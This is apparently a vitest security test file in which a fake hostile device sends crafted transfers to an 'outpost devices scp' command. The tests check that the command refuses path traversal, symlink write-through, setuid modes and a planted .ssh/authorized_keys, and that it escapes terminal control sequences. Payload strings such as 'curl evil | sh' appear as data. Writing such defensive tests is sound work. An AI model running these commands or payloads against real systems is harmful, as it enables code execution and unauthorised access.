/**
 * A hostile device against `outpost devices scp`: a fake agent (a real WebSocket client speaking the agent
 * protocol, connected to a real control plane) answers downloads with crafted transfer streams, and the real
 * command line copies from it into a folder standing for the operator's home. Nothing may be written outside the
 * destination, and every refusal ends the command with a non-zero exit.
 */
import { createHash } from 'node:crypto';
import { lstatSync, mkdirSync, readFileSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  encodeChunkPrefix,
  encodeDir,
  encodeEnd,
  encodeFileEnd,
  encodeFileStart,
  encodeSkipped,
} from '@outpost/shared';
import type { Channel } from '@outpost/shared';
import { ReconnectingScriptedAgent, createDevice } from '../../control-plane/test/transfer/scripted-agent.js';
import type { ScriptedAgent } from '../../control-plane/test/transfer/scripted-agent.js';
import { RemoteOpsWorld } from './remote-ops-fixture.js';
import type { CliResult } from './remote-ops-fixture.js';

const DEVICE = 'projects/files/regions/eu/devices/evil-box';
const world = new RemoteOpsWorld();
let device: ReconnectingScriptedAgent | undefined;
/** what the fake device answers for each device path */
const streams = new Map<string, Buffer>();

/** The fake device's side of every download: the crafted stream for the path asked for. */
function answerDownloads(agent: ScriptedAgent): void {
  agent.onChannel('transfer.download', (channel: Channel, args) => {
    const { path } = args as { path: string };
    const stream = streams.get(path);
    if (stream === undefined) throw new Error(`no crafted stream for ${path}`);
    void channel
      .write(stream)
      .then(() => channel.end())
      .catch(() => undefined);
    return { kind: 'file', name: 'whatever', size: 0 };
  });
}

beforeAll(async () => {
  // nothing here is about how fast a lost link is noticed: with the 1 s default, one stall of a loaded machine lapsed
  // the PostgreSQL presence lease (1.5 heartbeats), which drops every link (4001) for the devices to connect again
  await world.start(15);
  device = new ReconnectingScriptedAgent(
    world.server.url,
    await createDevice(world.server.admin, DEVICE),
    answerDownloads,
  );
  await device.linked();
}, 60_000);
afterAll(async () => {
  await device?.close();
  await world.stop();
});

type Entry = { dir: string; mode?: number } | { file: string; content: string; mode?: number };

function crafted(entries: Entry[], trailer: Buffer[] = []): Buffer {
  const records: Uint8Array[] = [];
  let files = 0;
  let bytes = 0;
  for (const entry of entries) {
    if ('dir' in entry) {
      records.push(encodeDir(entry.dir, entry.mode ?? 0o755));
      continue;
    }
    const content = Buffer.from(entry.content);
    records.push(
      encodeFileStart(entry.file, entry.mode ?? 0o644, content.length),
      encodeChunkPrefix(content.length),
      content,
      encodeFileEnd(createHash('sha256').update(content).digest('hex'), content.length),
    );
    files += 1;
    bytes += content.length;
  }
  return Buffer.concat([...records, ...trailer, encodeEnd(files, bytes)]);
}

let homesMade = 0;
/**
 * A folder standing for the operator's home, with a .bashrc, and a folder standing for the rest of the disk; new on
 * every call, so that a retried test (CI) starts from a clean home, not from what its first attempt left.
 */
function home(name: string): { home: string; outside: string } {
  homesMade += 1;
  const dir = world.folder(`${name}-${homesMade}`);
  mkdirSync(join(dir, 'home'));
  mkdirSync(join(dir, 'outside'));
  writeFileSync(join(dir, 'home', '.bashrc'), '# the operator\n');
  return { home: join(dir, 'home'), outside: join(dir, 'outside') };
}

/** Every path below `dir` (links not followed), relative to it. */
function listing(dir: string): string[] {
  const out: string[] = [];
  const walk = (path: string): void => {
    for (const name of readdirSync(path)) {
      const full = join(path, name);
      out.push(relative(dir, full));
      if (lstatSync(full).isDirectory()) walk(full);
    }
  };
  walk(dir);
  return out.sort();
}

/** for a test that runs the command line several times: each start through tsx takes 10-20 s on a loaded machine */
const SCPS_TIMEOUT_MS = 120_000;

/** `outpost devices scp`, once the fake device is connected (as an agent, it connects again when its link ends). */
async function scp(...args: string[]): Promise<CliResult> {
  await device?.linked();
  return world.cli(['devices', 'scp', ...args]);
}

describe('a download names its file after the command, never after the device', () => {
  it('a file the device calls .bashrc lands as syslog; ~/.bashrc is untouched', async () => {
    const { home: dir } = home('rename');
    streams.set('/var/log/syslog', crafted([{ file: '.bashrc', content: 'curl evil | sh\n' }]));
    const result = await scp(`${DEVICE}:/var/log/syslog`, `${dir}/`);
    expect(result.code, result.stderr).toBe(0);
    expect(readFileSync(join(dir, '.bashrc'), 'utf8')).toBe('# the operator\n');
    expect(readFileSync(join(dir, 'syslog'), 'utf8')).toBe('curl evil | sh\n');
    expect(listing(dir)).toEqual(['.bashrc', 'syslog']);
  });

  it('without -r, a directory planting .ssh/authorized_keys is refused and exits non-zero', async () => {
    const { home: dir } = home('plant');
    streams.set(
      '/var/log/auth.log',
      crafted([
        { dir: '.ssh', mode: 0o700 },
        { file: '.ssh/authorized_keys', content: 'ssh-ed25519 AAAA evil\n' },
      ]),
    );
    const result = await scp(`${DEVICE}:/var/log/auth.log`, dir);
    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(/FAILED_PRECONDITION: the transfer carries the directory ".ssh" where one file/);
    expect(listing(dir)).toEqual(['.bashrc']);
  });

  it('with -r, the tree lands under the name the command gives, whatever root the device names', async () => {
    const { home: dir } = home('tree-root');
    streams.set('/var/log', crafted([{ dir: '.ssh' }, { file: '.ssh/authorized_keys', content: 'key\n' }]));
    const result = await scp('-r', `${DEVICE}:/var/log`, dir);
    expect(result.code, result.stderr).toBe(0);
    expect(listing(dir)).toEqual(['.bashrc', 'log', 'log/authorized_keys']);
  });
});

describe('with -r, every entry stays inside the destination', () => {
  it(
    'refuses ".." and absolute entries',
    async () => {
      const { home: dir, outside } = home('escape');
      streams.set('/srv/dotdot', crafted([{ dir: 'dotdot' }, { file: 'dotdot/../../outside/x', content: 'x' }]));
      streams.set('/srv/absolute', crafted([{ dir: 'absolute' }, { file: `/${outside}/x`, content: 'x' }]));
      streams.set('/srv/rootdotdot', crafted([{ file: '..', content: 'x' }]));
      for (const name of ['dotdot', 'absolute', 'rootdotdot']) {
        const result = await scp('-r', `${DEVICE}:/srv/${name}`, `${join(dir, 'dl')}/`);
        expect(result.code, name).toBe(1);
        expect(result.stderr).toMatch(/INVALID_ARGUMENT: refused transfer entry/);
      }
      expect(listing(outside)).toEqual([]);
      expect(listing(dir).filter((p) => !p.startsWith('dl'))).toEqual(['.bashrc']);
    },
    SCPS_TIMEOUT_MS,
  );

  it('refuses to write through a symlink that already exists in the destination', async () => {
    const { home: dir, outside } = home('through-link');
    mkdirSync(join(dir, 'mirror', 'www'), { recursive: true });
    symlinkSync(outside, join(dir, 'mirror', 'www', 'cache'));
    streams.set(
      '/srv/www',
      crafted([
        { dir: 'www' },
        { file: 'www/index.html', content: '<h1>hi</h1>' },
        { file: 'www/cache/.ssh/authorized_keys', content: 'key\n' },
      ]),
    );
    const result = await scp('-r', `${DEVICE}:/srv/www`, join(dir, 'mirror'));
    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(/www\/cache is a symbolic link: a transfer never writes through one/);
    expect(listing(outside)).toEqual([]);
  });

  it(
    'refuses setuid and setgid modes',
    async () => {
      const { home: dir } = home('set-id');
      streams.set('/usr/bin/tool', crafted([{ file: 'tool', content: '#!/bin/sh\n', mode: 0o4755 }]));
      streams.set('/srv/shared', crafted([{ dir: 'shared', mode: 0o2775 }]));
      const file = await scp(`${DEVICE}:/usr/bin/tool`, `${dir}/`);
      expect(file.code).toBe(1);
      expect(file.stderr).toMatch(/mode 4755 sets the user or group id/);
      const tree = await scp('-r', `${DEVICE}:/srv/shared`, `${dir}/`);
      expect(tree.code).toBe(1);
      expect(tree.stderr).toMatch(/mode 2775 sets the user or group id/);
      expect(listing(dir)).toEqual(['.bashrc']);
    },
    SCPS_TIMEOUT_MS,
  );

  it('prints what the device reports with its control characters escaped', async () => {
    const { home: dir } = home('escapes');
    streams.set(
      '/srv/notes',
      crafted([{ dir: 'notes' }], [Buffer.from(encodeSkipped('notes/\u001b]0;owned\u0007', 'special \u009b2J'))]),
    );
    const result = await scp('-r', `${DEVICE}:/srv/notes`, `${dir}/`);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stderr).toContain('skipped notes/\\x1b]0;owned\\x07: special \\x9b2J');
    for (const control of ['\u001b', '\u0007', '\u009b']) expect(result.stderr).not.toContain(control);
  });
});
